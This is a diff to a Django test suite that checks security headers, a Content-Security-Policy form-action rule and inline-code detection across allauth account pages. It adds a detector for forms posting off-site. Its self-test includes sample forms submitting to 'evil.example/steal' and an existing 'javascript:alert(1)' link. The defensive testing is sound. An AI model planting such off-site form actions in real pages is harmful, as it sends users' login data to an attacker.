@@ -23,7 +23,23 @@ INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE)
 EVENT_HANDLER = re.compile(r"<[^>]+\son[a-z]+\s*=", re.IGNORECASE)
 STYLE_ATTRIBUTE = re.compile(r"<[^>]+\sstyle\s*=", re.IGNORECASE)
 STYLE_ELEMENT = re.compile(r"<style[\s>]", re.IGNORECASE)
+# A form whose action leaves the site (absolute or scheme-relative URL).
+FORM_OFF_SITE = re.compile(r"""<form[^>]*\saction\s*=\s*["']?\s*(?:[a-z][a-z0-9+.-]*:|//)""", re.I)
 JAVASCRIPT_URL = re.compile(r"""(?:href|src|action)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)
+
+# allauth's pages with a form (a member sees the signed-in ones, a visitor the others).
+ALLAUTH_PAGES = [
+    "/accounts/login/",
+    "/accounts/signup/",
+    "/accounts/password/reset/",
+    "/accounts/email/",
+    "/accounts/password/change/",
+    "/accounts/logout/",
+    "/accounts/2fa/",
+    "/accounts/2fa/totp/activate/",
+    "/accounts/sessions/",
+    "/accounts/reauthenticate/",
+]
 
 EXTRA_ADMIN_PAGES = [
     "/admin/members/user/",
@@ -46,6 +62,13 @@ def _check_headers(path, response):
     assert directives["style-src"] == "'self'", path
     assert directives["object-src"] == "'none'", path
     assert directives["frame-ancestors"] == "'none'", path
+    # Forms post to the site only (issue 17); the social providers' sign-in pages are where
+    # the social login's POST is redirected.
+    assert directives["form-action"].split() == [
+        "'self'",
+        "https://accounts.google.com",
+        "https://www.linkedin.com",
+    ], path
     assert "unsafe-inline" not in csp and "unsafe-eval" not in csp, path
     assert response["X-Content-Type-Options"] == "nosniff", path
     assert response["Referrer-Policy"] == "same-origin", path
@@ -62,6 +85,7 @@ def _check_html(path, response):
         (STYLE_ATTRIBUTE, "style= attribute"),
         (STYLE_ELEMENT, "<style> element"),
         (JAVASCRIPT_URL, "javascript: URL"),
+        (FORM_OFF_SITE, "form posting off-site"),
     ):
         found = pattern.search(html)
         assert found is None, (
@@ -74,7 +98,7 @@ def test_every_page_sends_the_security_headers_and_no_inline_code(client, role):
     world = build_world()
     if world.user(role) is not None:
         client.force_login(world.user(role))
-    paths = [*world.urls.values(), "/accounts/login/", "/accounts/signup/", "/en/"]
+    paths = [*world.urls.values(), *ALLAUTH_PAGES, "/en/"]
     if role == "superuser":
         paths += EXTRA_ADMIN_PAGES
     for path in paths:
@@ -146,11 +170,14 @@ def test_the_inline_code_detector_finds_what_it_looks_for():
         '<div style="color:red">',
         "<style>p{}</style>",
         '<a href="javascript:alert(1)">',
+        '<form method="post" action="https://evil.example/steal">',
+        "<form action='//evil.example/steal' method=post>",
     ):
         response = HttpResponse(html, content_type="text/html")
         with pytest.raises(AssertionError):
             _check_html("/sample", response)
     _check_html("/ok", HttpResponse('<script src="/static/x.js"></script>'))
+    _check_html("/ok", HttpResponse('<form method="post" action="/accounts/login/?next=/me/">'))
 
 
 def test_the_superuser_really_renders_the_admin_pages(client):
